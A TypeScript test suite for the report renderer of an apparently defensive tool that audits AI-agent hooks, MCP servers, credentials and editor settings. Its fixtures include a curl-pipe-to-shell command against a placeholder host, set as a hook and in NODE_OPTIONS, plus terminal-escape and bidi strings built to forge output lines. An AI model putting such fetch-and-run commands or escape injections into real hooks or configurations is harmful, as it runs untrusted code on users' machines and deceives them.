import assert from 'node:assert/strict';
import { createColors } from 'picocolors';
import stringWidth from 'string-width';
import { MAX_TEXT } from '../../../src/inventory/redaction.ts';
import { ALL_AREAS, type SurveyQuery, survey } from '../../../src/inventory/survey.ts';
import { fixtureMachine } from '../../../src/machine/fixture-machine.ts';
import type { Credential } from '../../../src/model/credential.ts';
import { type Finding, SEVERITIES } from '../../../src/model/finding.ts';
import type { Executor, Launch } from '../../../src/model/launch.ts';
import type { Report } from '../../../src/model/report.ts';
import { assembleReport } from '../../../src/report/assemble.ts';
import { escapeUnseen } from '../../../src/report/escape.ts';
import { renderText, type TextOptions } from '../../../src/report/text.ts';
import { exampleCredential } from '../../../src/rules/example-credential.ts';
import { exampleLaunch } from '../../../src/rules/example-launch.ts';
import { emptyReport, RICH, richReport } from './rich-machine.ts';

const PLAIN = createColors(false);
const COLOURED = createColors(true);
const render = (report: Report, options: Partial<TextOptions> = {}): string =>
	renderText(report, { colors: PLAIN, width: 100, ...options });
const linesOf = (report: Report, options: Partial<TextOptions> = {}): readonly string[] => render(report, options).trimEnd().split('\n');
const WIDTHS = [60, 80, 100, 160];

/** A line may be wider than the page for a path or an address alone. */
const hasPath = (line: string): boolean => /(?:^|[\s(:'])(?:~|\/|[a-z]+:\/\/)\S/.test(line) || /[^\s]\/[^\s]/.test(line);

/** The lines of one section, without its heading. */
function section(lines: readonly string[], title: string): readonly string[] {
	const start = lines.findIndex((line) => line.startsWith(`${title}  `));
	assert.ok(start >= 0, title);
	const length = lines.slice(start + 1).findIndex((line) => /^\S/.test(line));
	return lines.slice(start + 1, length < 0 ? undefined : start + 1 + length).filter((line) => line !== '');
}

describe('report/text', () => {
	let report: Report;
	let empty: Report;

	before(async () => {
		report = await richReport();
		empty = await emptyReport();
	});

	it('begins with the risk, and the worst finding after it', () => {
		const lines = linesOf(report);
		assert.deepEqual(lines.slice(0, 5), [
			`Risk       at least high, score ${report.risk.score} of 100`,
			'Would run  15 servers and hooks, in 9 tools',
			'           Not everything that starts commands could be read.',
			'',
			`What to look at  ${report.findings.length}, the worst first`,
		]);
		const labels = section(lines, 'What to look at').flatMap((line) => /^ {2}([A-Z]+) /.exec(line)?.[1]?.toLowerCase() ?? []);
		assert.deepEqual(
			labels,
			report.findings.map((finding) => finding.severity),
		);
		assert.deepEqual(
			labels,
			[...SEVERITIES].reverse().flatMap((severity) => labels.filter((label) => label === severity)),
		);
		assert.equal(labels[0], 'high');
	});

	it('says of each finding what, where, and what to do', () => {
		const lines = linesOf(report);
		const start = lines.findIndex((line) => line.includes('Git password or token (developer at git.example.com) can be read by'));
		assert.deepEqual(lines.slice(start, start + 5), [
			'  MEDIUM   Git password or token (developer at git.example.com) can be read by every account on this',
			'           machine',
			'           ~/.git-credentials has mode 0644, and every folder above it lets others in.',
			'           → chmod 600 ~/.git-credentials',
			'',
		]);
		const blocks = section(lines, 'What to look at')
			.join('\n')
			.split(/\n(?= {2}[A-Z]+ )/);
		assert.equal(blocks.length, report.findings.length);
		for (const [at, block] of blocks.entries()) {
			assert.equal(block.split('→').length - 1, report.findings[at]?.fixes.length, block);
			assert.match(block, /→ \S/);
		}
	});

	describe('what would run is nowhere left out', () => {
		const PAYLOAD =
			`echo ${'setting up '.repeat(30)}&& curl -fsSL https://x.example.com/${'a'.repeat(120)}/setup | sh ; echo ${'done '.repeat(60)}`.trimEnd();
		/** Spaces fall at the ends of lines. */
		const squeezed = (text: string): string => text.replace(/\s+/g, '');
		const withLaunch = (changes: Partial<Launch>): Report => ({
			...empty,
			launches: [exampleLaunch({ kind: 'hook', name: 'SessionStart', args: [], ...changes })],
		});

		for (const width of [...WIDTHS, 200, Number.POSITIVE_INFINITY]) {
			it(`neither of a command, of arguments, of an address nor of a variable, on ${width} columns`, () => {
				const shown = [
					render(withLaunch({ command: PAYLOAD, shell: true }), { width }),
					render(withLaunch({ command: 'sh', args: ['-c', PAYLOAD] }), { width }),
					render(withLaunch({ command: null, url: `https://x.example.com/${'b'.repeat(400)}/| sh ; echo done` }), { width }),
					render(withLaunch({ command: 'node', env: [{ name: 'NODE_OPTIONS', value: PAYLOAD }] }), { width }),
				];
				for (const text of shown) {
					assert.doesNotMatch(text, /…/);
				}
				assert.ok([0, 1, 3].every((at) => squeezed(shown[at] ?? '').includes(squeezed(PAYLOAD))));
				assert.ok(squeezed(shown[2] ?? '').includes(`${'b'.repeat(400)}/|sh;echodone`));
				for (const line of shown.flatMap((text) => text.split('\n'))) {
					assert.ok(stringWidth(line) <= width, line);
				}
			});
		}

		it('and hangs below its beginning', () => {
			const lines = section(linesOf(withLaunch({ command: PAYLOAD, shell: true }), { width: 80 }), 'Agents and MCP servers');
			const start = lines.indexOf('    hook    SessionStart');
			assert.match(lines[start + 1] ?? '', /^ {12}echo setting up/);
			assert.match(lines[start + 2] ?? '', /^ {14}up setting up/);
			assert.match(lines.find((line) => line.includes('curl')) ?? '', /^ {14}\S/);
		});

		it('but at the end of one that is longer than the inventory reads, and says so', () => {
			const text = render(withLaunch({ command: 'x'.repeat(MAX_TEXT - 7), args: ['abcdef', 'y'.repeat(5_000)] }), { width: 100 });
			assert.ok(squeezed(text).includes('xabcdef…(cuthere:5001morecharactersinthefile)'), text.slice(-300));
			assert.equal(render(withLaunch({ command: 'x'.repeat(MAX_TEXT) })).includes('…'), false);
		});

		it('and stands on one line where the page has no edge', () => {
			const text = render(withLaunch({ command: PAYLOAD, shell: true }), { width: Number.POSITIVE_INFINITY });
			assert.ok(text.split('\n').some((line) => line.endsWith(`SessionStart  ${PAYLOAD}`)));
		});

		it('nor are names and paths, however narrow the page', () => {
			const account = 'a-rather-long-account-name@identity.provider.example.com';
			const path = '/opt/some/rather/long/folder/of/a/shared/machine/where/credentials/lie/around/credentials.json';
			const shown: Report = { ...empty, credentials: [exampleCredential({ identity: { account }, path, line: 7 })] };
			for (const width of [...WIDTHS, 200, Number.POSITIVE_INFINITY]) {
				const text = render(shown, { width });
				assert.ok(width === 60 || squeezed(text).includes(account), text);
				assert.ok(text.includes(`${path}:7`) && !text.includes('…'), text);
			}
			assert.ok(
				render(shown, { width: 240 })
					.split('\n')
					.some((line) => line.includes(account) && line.includes(path)),
			);
		});
	});

	it('says for each launch what runs, in which tools, when, and where that stands', () => {
		const lines = section(linesOf(report), 'Agents and MCP servers');
		const start = lines.findIndex((line) => line.includes('  npx -y lamp-server@1.0.0'));
		// Names line up within their group.
		assert.equal(lines[start], '    server  lamp           npx -y lamp-server@1.0.0');
		assert.match(
			lines
				.slice(start + 1, start + 4)
				.join(' ')
				.replace(/\s+/g, ' '),
			/^ Claude Code, GitHub Copilot CLI, Devin CLI, Grok Build, VS Code when a session starts or at the first prompt · ~\/app\/\.mcp\.json:3 environment: TOKEN/,
		);
		assert.ok(lines.some((line) => line.includes('environment: NODE_OPTIONS=--require ./x.js')));
		// A trailing comma stops Gemini CLI: nothing loads it, and so there is no moment.
		const idle = lines.indexOf('    server  g              g');
		assert.deepEqual(lines.slice(idle + 1, idle + 3), [
			'            no tool that we know · ~/app/.gemini/settings.json:1',
			'            not Gemini CLI (drops a file with a trailing comma)',
		]);
		const doubtful = lines.indexOf('    hook    SessionStart   node .github/setup.js');
		assert.deepEqual(lines.slice(doubtful + 1, doubtful + 5), [
			'            Claude Code, GitHub Copilot CLI, Snowflake Cortex Code CLI, Devin CLI, Grok Build',
			'            when a session starts · ~/app/.claude/settings.json:9',
			'            perhaps Cursor (only while Cursor includes third-party configurations)',
			'            not VS Code (chat.useClaudeHooks is off)',
		]);
		assert.deepEqual(
			lines.filter((line) => /^ {2}\S/.test(line)),
			[
				'  Yours, in every folder  8 servers and hooks',
				'  ~/app  9 servers and hooks · trusted by Claude Code, Codex CLI, GitHub Copilot CLI, Gemini CLI',
			],
		);
	});

	it('lines up the columns of a table', () => {
		for (const width of WIDTHS) {
			for (const listExtensions of [false, true]) {
				for (const title of ['Credentials', 'Protection', 'Could not be read']) {
					const rows = section(linesOf(report, { width, listExtensions }), title);
					const starts = new Map<number, Set<number>>();
					for (const row of rows) {
						const indent = row.length - row.trimStart().length;
						const cells = [...row.trimStart().matchAll(/(?:^|(?<= {2}))\S/g)].map((match) => indent + match.index);
						for (const cell of cells) {
							starts.set(indent, (starts.get(indent) ?? new Set()).add(cell));
						}
					}
					// Rows may leave columns empty, and share the rest: there are few places where a cell begins.
					assert.ok(
						[...starts.values()].every((places) => places.size <= 5),
						`${title} at ${width}: ${JSON.stringify([...starts].map(([k, v]) => [k, [...v]]))}`,
					);
				}
			}
		}
	});

	it('keeps a table on single lines where there is room', () => {
		const rows = section(linesOf(report, { width: 160 }), 'Credentials');
		assert.equal(rows.length, report.credentials.length);
		const column = (text: string): number[] => rows.filter((row) => row.includes(text)).map((row) => row.indexOf(text));
		assert.equal(new Set(column('plain file')).size, 1);
		assert.ok(column('plain file').length >= 3);
	});

	it('has the credentials that matter most first', () => {
		const rows = section(linesOf(report, { width: 160 }), 'Credentials');
		const lives = rows.map((row) => (row.includes('long-lived') ? 0 : 1));
		assert.deepEqual(lives, [...lives].sort());
		assert.ok(
			rows.some((row) => row.endsWith('  in the environment    $AWS_SECRET_ACCESS_KEY') || /in the environment +\S*.*\$AWS_/.test(row)),
		);
	});

	it('has no line that is wider than the page, but for a path', async () => {
		const nasty = await nastyReport();
		for (const width of WIDTHS) {
			for (const options of [{}, { listExtensions: true }, { quiet: true }]) {
				for (const shown of [report, empty, ...(width === 60 || width === 100 ? [nasty] : [])]) {
					for (const line of linesOf(shown, { width, ...options })) {
						assert.ok(stringWidth(line) <= width || hasPath(line), `${stringWidth(line)} of ${width}: ${line}`);
					}
				}
			}
		}
	});

	it('has no trailing spaces, no double blank lines, and one line break at its end', () => {
		for (const width of [60, 100]) {
			const text = render(report, { width, listExtensions: true });
			assert.doesNotMatch(text, / \n|\n\n\n|\n\n$/);
			assert.ok(text.endsWith('\n'));
		}
	});

	it('is plain without colours, and says the same with them', () => {
		const coloured = render(report, { colors: COLOURED, listExtensions: true });
		const plain = render(report, { listExtensions: true });
		// biome-ignore lint/suspicious/noControlCharactersInRegex: colours are control characters
		assert.doesNotMatch(plain, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
		// biome-ignore lint/suspicious/noControlCharactersInRegex: colours are control characters
		assert.equal(coloured.replace(/\u001b\[\d+m/g, ''), plain);
		assert.ok(coloured.includes('\u001b[31mHIGH'));
	});

	it('says of nothing that it found nothing, where it looked, and no more', () => {
		assert.equal(
			render(empty),
			[
				'Would run  nothing that we know of',
				`Risk       no finding in ${empty.placesChecked} places that were looked at`,
				'',
				'Agents and MCP servers  0 folders looked at',
				'  Starts nothing that we know of.',
				'',
				'Credentials  0 · never their values',
				'  None in the places that were checked.',
				'',
				'Extensions  0 · 0 editors',
				'  No editor in the places that were checked.',
				'',
				`${empty.placesChecked} places checked, 0 unreadable. Update ages unknown: network is off.`,
				'',
			].join('\n'),
		);
		assert.ok(empty.placesChecked > 50);
	});

	it('never says that anything is safe or clean', async () => {
		for (const shown of [report, empty, { ...report, findings: [], incomplete: [] }]) {
			assert.doesNotMatch(render(shown, { listExtensions: true }), /\b(?:safe|secure|clean|guarded|protected|no risk|no problems?)\b/i);
		}
	});

	it('says with an empty list of findings that something could not be read', async () => {
		const shown = { ...report, findings: [], risk: { level: 'no-findings', atLeast: true, score: 0, reasons: [] } } as const;
		assert.deepEqual(linesOf(shown).slice(0, 3), [
			'Would run  15 servers and hooks, in 9 tools',
			'Risk       no finding beyond these commands',
			'           Not everything that starts commands could be read.',
		]);
		assert.equal(section(linesOf(shown), 'Could not be read').length >= report.incomplete.length, true);
	});

	it('says of an audit what it was told not to look at, in the line of the risk and in the list', async () => {
		const of = async (changes: Partial<SurveyQuery>): Promise<readonly string[]> => {
			const query = { areas: ALL_AREAS, folders: ['/home/dev/app'], knownFolders: true, ...changes };
			return linesOf(assembleReport(await survey(fixtureMachine(RICH), query), '1.2.3'));
		};
		const blind = await of({ areas: ALL_AREAS.filter((area) => area !== 'credentials') });
		assert.match(blind[0] ?? '', /^Risk {7}at least high, score \d+ of 100; credentials were not looked at$/);
		assert.ok(blind.includes('Credentials  not looked at'));
		assert.match((await of({ knownFolders: false }))[0] ?? '', /; known folders were not looked at$/);
		const both = await of({ areas: ['extensions', 'launches', 'posture', 'trust'], knownFolders: false });
		assert.match(both[0] ?? '', /; credentials and known folders were not looked at$/);
		assert.doesNotMatch((await of({})).join('\n'), /were not looked at/);
		// Who asks about one folder, or about extensions, asks nothing of credentials.
		assert.doesNotMatch((await of({ areas: ['launches', 'trust'], knownFolders: false })).join('\n'), /were not looked at|Credentials/);
	});

	it('counts what would run by what a tool takes, and says what one perhaps takes', () => {
		const [executor] = exampleLaunch().executors;
		assert.ok(executor);
		const head = (...launches: Launch[]): readonly string[] => linesOf({ ...empty, launches }).slice(0, 2);
		const by = (verdict: Executor['verdict'], kind: Launch['kind'], tool = 'claude-code'): Launch =>
			exampleLaunch({ kind, executors: [{ ...executor, tool, verdict, reason: 'so it is' }] });
		assert.deepEqual(
			head(by('loads', 'hook'), by('loads', 'mcp-server', 'codex'), by('loads', 'hook', 'codex'), by('ignores', 'hook', 'cursor')),
			['Would run  3 servers and hooks, in 2 tools', 'Risk       no finding beyond these commands'],
		);
		assert.deepEqual(head(by('loads', 'hook'), by('unknown', 'mcp-server')), [
			'Would run  1 hook, in 1 tool; perhaps 1 server more',
			'Risk       no finding beyond these commands',
		]);
		assert.deepEqual(head(by('unknown', 'task')), [
			'Would run  nothing that we know of; perhaps 1 command',
			'Risk       no finding beyond these commands',
		]);
		assert.deepEqual(head(by('ignores', 'hook')), [
			'Would run  nothing that we know of',
			`Risk       no finding in ${empty.placesChecked} places that were looked at`,
		]);
	});

	it('names the tools that do not take a launch, with each reason once', () => {
		const [executor] = exampleLaunch().executors;
		assert.ok(executor);
		const ignoring = (tool: string, reason: string) => ({ ...executor, tool, verdict: 'ignores' as const, reason });
		const launch = exampleLaunch({
			executors: [executor, ignoring('codex', 'reads x instead'), ignoring('cursor', 'is off'), ignoring('vscode', 'is off')],
		});
		assert.deepEqual(section(linesOf({ ...empty, launches: [launch] }), 'Agents and MCP servers').slice(2), [
			'            Claude Code · when a session starts · ~/app/.mcp.json:3',
			'            not Codex CLI (reads x instead) · not Cursor, VS Code (is off)',
		]);
	});

	it('tells two launches of one name apart by their places', () => {
		const at = (path: string): Launch =>
			exampleLaunch({ id: path, name: 'SessionStart', kind: 'hook', source: { path, line: 4, column: 1 } });
		const text = render({ ...empty, launches: [at('/home/dev/app/.claude/settings.json'), at('/home/dev/app/.gemini/settings.json')] });
		assert.ok(text.includes('~/app/.claude/settings.json:4') && text.includes('~/app/.gemini/settings.json:4'));
	});

	it('has the settings that protect less first in each editor, marked, and says why one is not known', () => {
		const rows = section(linesOf(report, { width: 120 }), 'Protection');
		const cells = rows.map((row) => row.trim().split(/ {2,}/));
		assert.deepEqual(cells.slice(0, 3), [
			['Cursor'],
			['!', 'task.allowAutomaticTasks', '"on"', 'set by you', 'recommended: "off"'],
			['?', 'chat.mcp.autostart', 'unknown', 'settings could not be read', 'recommended: "never"'],
		]);
		const code = cells.findIndex(([title]) => title === 'VS Code');
		assert.deepEqual(cells.slice(code, code + 4), [
			['VS Code'],
			['!', 'extensions.autoUpdateDelay', '0', 'set by you', 'recommended: 72'],
			['?', 'extensions.autoUpdate', 'unknown', 'default varies by version', 'recommended: "on"'],
			['·', 'chat.mcp.autostart', '"never"', 'set by you, as recommended'],
		]);
		assert.ok(cells.slice(code + 4).every(([mark, , , whence]) => mark === '·' && whence === 'the default, as recommended'));
		assert.ok(linesOf(report).includes('Protection  14 settings, 2 weakened'));
	});

	it('has the trusted folders, those that start something first, and of a folder who trusts it', async () => {
		assert.deepEqual(section(linesOf(report), 'Trusted folders'), [
			'  ~/app  starts 4 servers and hooks      Claude Code, Codex CLI, GitHub Copilot CLI',
			'  /home  starts nothing that we know of  Claude Code',
			'  ~      starts nothing that we know of  Gemini CLI',
		]);
		const of = async (folder: string): Promise<readonly string[]> => {
			const facts = await survey(fixtureMachine(RICH), { areas: ['launches', 'trust'], folders: [folder], machineWide: false });
			return section(linesOf(assembleReport(facts, '1')), 'Trusted folders').map((line) => line.trim().split(/ {2,}/)[0] ?? '');
		};
		assert.deepEqual(await of('/home/dev/app'), ['~/app', 'through ~']);
		assert.deepEqual(await of('/srv/other'), ['No trust store that could be read names this folder, or one that it is trusted through.']);
	});

	it('lists all trust, tool by tool, with how to take it back, who asks nobody, and who keeps it elsewhere', () => {
		const record = (tool: string, folder: string, changes: Partial<Report['trust'][number]> = {}): Report['trust'][number] => ({
			tool,
			folder,
			inherited: false,
			through: null,
			exists: 'yes',
			launchesToday: 0,
			launchKinds: [],
			reviewed: false,
			revoke: `Forget ${folder}`,
			...changes,
		});
		const busy = { launchesToday: 2, launchKinds: [{ kind: 'hook', count: 2 } as const] };
		const through = { inherited: true, through: '/home/dev/src', revoke: 'Forget /home/dev/src' };
		const editorOf = (editor: string) => ({ editor, extensionsDir: `/${editor}`, userDataDir: null });
		const shown: Report = {
			...report,
			answers: ['launches', 'posture', 'trust'],
			folders: { looked: ['/home/dev/src', '/home/dev/src/a', '/home/dev/src/b'], leftOut: 0, known: true },
			trust: [
				record('gemini-cli', '/home/dev/src'),
				record('gemini-cli', '/home/dev/src/a', { ...through, ...busy, reviewed: true }),
				record('gemini-cli', '/home/dev/src/b', through),
				record('codex', '/home/dev/gone\u202e', { exists: 'no' }),
			],
			editors: [editorOf('vscode'), editorOf('code-server'), editorOf('vscode-server')],
			posture: [
				{
					subject: 'vscode',
					setting: 'security.workspace.trust.enabled',
					effective: 'false',
					recommended: 'true',
					source: 'user',
					managed: false,
				},
			],
			findings: [],
			incomplete: [],
			placesChecked: 7,
		};
		assert.deepEqual(renderText(shown, { colors: createColors(false), width: 120, listTrust: true }).split('\n'), [
			'Trusted folders  4 · 2 tools',
			'  Codex CLI  1',
			'    ~/gone\\u{202e}  gone; trusted again if it comes back',
			'    To take it back, for one: Forget ~/gone\\u{202e}.',
			'',
			'  Gemini CLI  3',
			'    ~/src/a  starts 2 hooks                  through ~/src  reviewed',
			'    ~/src    starts nothing that we know of',
			'    and 1 folder below, which starts nothing that we know of',
			'    To take it back, for one: Forget ~/src.',
			'',
			'  VS Code asks nobody: Workspace Trust is off, and every folder counts as trusted.',
			'  code-server: the browser keeps which folders are trusted.',
			'  VS Code Server: the editor that connects to it keeps which folders are trusted.',
			'',
			'7 places checked, 0 unreadable.',
			'',
		]);
		assert.match(
			renderText({ ...shown, trust: [], editors: [] }, { colors: createColors(false), width: 120, listTrust: true }),
			/^Trusted folders {2}0 · 0 tools\n {2}None in the trust stores that could be read\.\n/,
		);
	});

	it('names twelve trusted folders in an audit, and says where the others are listed', () => {
		const trust = Array.from({ length: 14 }, (_, index) => ({ ...(report.trust[0] as Report['trust'][number]), folder: `/srv/${index}` }));
		const lines = section(linesOf({ ...report, trust }), 'Trusted folders');
		assert.deepEqual([lines.length, lines.at(-1)?.trim()], [13, '… and 2 more: sallyport trust']);
	});

	it('says of a trusted folder that was not looked at just that', () => {
		const trust = report.trust.map((record) => ({ ...record, launchesToday: 0, launchKinds: [] }));
		const shown: Report = { ...report, folders: { ...report.folders, looked: [] }, trust, launches: [] };
		assert.ok(section(linesOf(shown), 'Trusted folders').every((row) => row.includes('  not looked at  ')));
	});

	it('has credentials that a finding names worst, then what lives longest, then what has lain there longest', () => {
		const credential = (title: string, changes: Partial<Credential> = {}): Credential =>
			exampleCredential({ id: title, title, path: `/home/dev/${title}`, ...changes });
		const open = credential('open', { lifetime: 'short', modifiedAt: '2026-05-30T00:00:00.000Z' });
		const credentials = [
			credential('encrypted', { protection: 'not-plaintext', atRest: 'encrypted-os' }),
			credential('young', { modifiedAt: '2026-05-01T00:00:00.000Z' }),
			credential('short', { lifetime: 'short' }),
			open,
			credential('old', { modifiedAt: '2024-05-01T00:00:00.000Z' }),
			credential('unknown', { lifetime: 'unknown' }),
		];
		const [finding] = report.findings;
		assert.ok(finding);
		const findings: Finding[] = [
			{ ...finding, ruleId: 'credential/open-to-others', severity: 'medium', subject: { type: 'credential', ref: open.id } },
		];
		const rows = section(linesOf({ ...empty, credentials, findings }, { width: 160 }), 'Credentials');
		assert.deepEqual(
			rows.map((row) => row.trim().split(' ')[0]),
			['open', 'old', 'young', 'unknown', 'short', 'encrypted'],
		);
		assert.match(rows[0] ?? '', / plain file, open to all /);
	});

	it('keeps bold and colour on every line of a title and of an action', () => {
		const [finding] = report.findings;
		assert.ok(finding);
		const words = 'word '.repeat(40).trim();
		const shown = { ...report, findings: [{ ...finding, title: words, fixes: [{ title: words, kind: 'manual' as const }] }] };
		const lines = linesOf(shown, { colors: COLOURED, quiet: true, width: 80 }).filter((line) => line.includes('word'));
		assert.ok(lines.filter((line) => line.includes('\u001b[1mword')).length >= 3);
		assert.ok(lines.filter((line) => line.includes('\u001b[36mword')).length >= 3);
		assert.equal(
			lines.some((line) => /^ *word/.test(line)),
			false,
		);
	});

	it('lists each place that could not be read, with the reason', () => {
		const rows = section(linesOf(report, { width: 160 }), 'Could not be read');
		assert.equal(rows.length, report.incomplete.length);
		assert.ok(rows.some((row) => /^ {2}~\/\.kube\/config +credentials +permission denied$/.test(row)));
		assert.ok(linesOf(report).at(-1)?.startsWith(`${report.placesChecked} places checked, ${report.incomplete.length} unreadable.`));
		const capped = { ...report, folders: { looked: [], leftOut: 3, known: true } };
		assert.ok(render(capped).includes(' 3 known folders beyond the limit left out.'));
	});

	it('is silent of what was not asked', async () => {
		const facts = await survey(fixtureMachine(RICH), { areas: ['extensions'] });
		const lines = linesOf(assembleReport(facts, '1.2.3'), { listExtensions: true });
		assert.deepEqual(
			lines.filter((line) => /^[A-Z]/.test(line)).map((line) => line.split('  ')[0]),
			['Risk', 'Extensions', 'Could not be read'],
		);
		assert.equal(lines[0], `Risk  no finding in ${facts.placesChecked} places that were looked at`);
	});

	it('gives findings alone when it is to be quiet', () => {
		const lines = linesOf(report, { quiet: true });
		assert.deepEqual(lines, linesOf(report).slice(0, lines.length));
		assert.equal(
			lines.some((line) => line.startsWith('Credentials')),
			false,
		);
	});

	it('lists every extension once, also one that was linked from elsewhere', () => {
		const [first] = report.extensions;
		assert.ok(first);
		const linked = { ...first, id: 'acme.linked', path: '/home/dev/work/linked' };
		const shown: Report = {
			...report,
			editors: [...report.editors, { editor: 'vscode', extensionsDir: '/home/dev/.vscode/extensions2', userDataDir: null }],
			extensions: [...report.extensions, linked, { ...first, id: 'acme.second', path: '/home/dev/.vscode/extensions2/acme.second' }],
		};
		const text = render(shown, { listExtensions: true });
		for (const { id } of shown.extensions) {
			assert.equal(text.split(`  ${id} `).length - 1, 1, id);
		}
		assert.ok(text.indexOf('acme.second') > text.indexOf('extensions2'));
		assert.ok(text.indexOf('acme.linked') < text.indexOf('extensions2'));
		assert.match(text, / acme\.tides +1\.2\.3 +gallery +installed 2026-05-30 +pinned/);
		assert.match(text, / acme\.charts +0\.9\.0 +from a file +installed: unknown +pre-release, linux-x64/);
	});

	it('shows a hostile target platform for what it is', () => {
		const [first] = report.extensions;
		assert.ok(first);
		const text = render(
			{ ...report, extensions: [{ ...first, targetPlatform: '\u001b[31m\u202e\u200b\nFAKE LINE\r' }] },
			{ listExtensions: true },
		);
		assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{Cc}\u200b\u202e]/u);
		assert.doesNotMatch(text, /^\s*FAKE LINE/m);
	});

	it('writes `~` for the home where a path begins, and nowhere else', () => {
		const [finding] = report.findings;
		assert.ok(finding);
		const shown = (title: string): string => {
			const lines = linesOf({ ...report, findings: [{ ...finding, title }] }, { quiet: true, width: 160 });
			return lines.find((line) => line.startsWith('  HIGH'))?.slice(11) ?? '';
		};
		assert.equal(shown('/home/dev/x and (/home/dev/y)'), '~/x and (~/y)');
		assert.equal(shown('/backup/home/dev/x'), '/backup/home/dev/x');
		assert.equal(shown('/home/developer/x'), '/home/developer/x');
		// A shell leaves ~ alone inside quotes.
		assert.equal(shown("chmod 600 '/home/dev/a b'"), "chmod 600 '/home/dev/a b'");
	});

	it('shows hostile names for what they are, at every width', async () => {
		const nasty = await nastyReport();
		for (const width of WIDTHS) {
			for (const listExtensions of [false, true]) {
				const text = render(nasty, { width, listExtensions });
				for (const line of text.trimEnd().split('\n')) {
					assert.equal(escapeUnseen(line), line);
				}
				assert.ok(text.includes('\\u{202e}') && text.includes('\\u{1b}'));
				assert.doesNotMatch(text, /FORGED\n|^FORGED/m);
			}
		}
		const coloured = render(nasty, { colors: COLOURED });
		assert.deepEqual(
			['\u202e', '\u001b]', '\u001b[2J', '\u0007'].filter((evil) => coloured.includes(evil)),
			[],
		);
	});

	it('does not crash on an odd page', () => {
		for (const width of [0, 1, 20, 59, Number.POSITIVE_INFINITY]) {
			assert.ok(render(report, { width }).includes('Git password or token'), `${width}`);
		}
	});

	async function nastyReport(): Promise<Report> {
		const evil = '\u202eFORGED\nFORGED\r\u001b[2J\u001b]0;x\u0007\u2066\u200b';
		const long = 'x'.repeat(300);
		const wide = '漢'.repeat(120);
		const names = [evil, long, wide, `${evil}${long}`, 'a '.repeat(200), '🙂'.repeat(90)];
		const base = await emptyReport();
		const [template] = report.findings;
		const [extension] = report.extensions;
		const [fact] = report.posture;
		assert.ok(template && extension && fact);
		const findings = names.map(
			(name, at): Finding => ({
				...template,
				id: `x:${at}`,
				severity: SEVERITIES[at % SEVERITIES.length] ?? 'low',
				title: `${name} of ${name}`,
				detail: `in ${name}`,
				fixes: [
					{ title: `rm '/home/dev/${name}'`, kind: 'command' },
					{ title: name, kind: 'manual' },
				],
			}),
		);
		return {
			...base,
			answers: ['credentials', 'extensions', 'launches', 'posture', 'trust'],
			findings,
			risk: { level: 'critical', atLeast: true, score: 99, reasons: [] },
			editors: [{ editor: 'vscode', extensionsDir: `/home/dev/${evil}`, userDataDir: null }],
			extensions: names.map((name) => ({
				...extension,
				id: `acme.${name}`,
				version: name,
				path: `/home/dev/${evil}/x`,
				profiles: [name, 'default'],
			})),
			launches: names.flatMap((name, at) => [
				exampleLaunch({ id: `a${at}`, name, command: name, args: [name, ''], env: [{ name: 'NODE_OPTIONS', value: name }] }),
				exampleLaunch({
					id: `b${at}`,
					name: 'n',
					kind: 'lifecycle-script',
					command: null,
					url: `https://x.example/${name}`,
					folder: `/home/dev/${name}`,
				}),
				exampleLaunch({
					id: `c${at}`,
					name: 'n',
					command: '/usr/bin/env',
					args: [name],
					folder: null,
					scope: 'user',
					source: { path: `/${evil}`, line: 1, column: 1 },
				}),
			]),
			credentials: names.flatMap((name, at) => [
				exampleCredential({ id: `a${at}`, title: `T ${name}`.slice(0, 30), identity: { account: name, host: name } }),
				exampleCredential({ id: `b${at}`, path: `/home/dev/${name}`, line: null, expiresAt: '2020-01-01T00:00:00.000Z' }),
				exampleCredential({ id: `c${at}`, path: null, variable: `V${name}` }),
			]),
			posture: names.map((name) => ({ ...fact, effective: JSON.stringify(name).slice(0, 200) })),
			incomplete: names.map((name) => ({ path: `/home/dev/${name}`, area: 'launches', reason: 'denied', detail: name })),
		};
	}
});
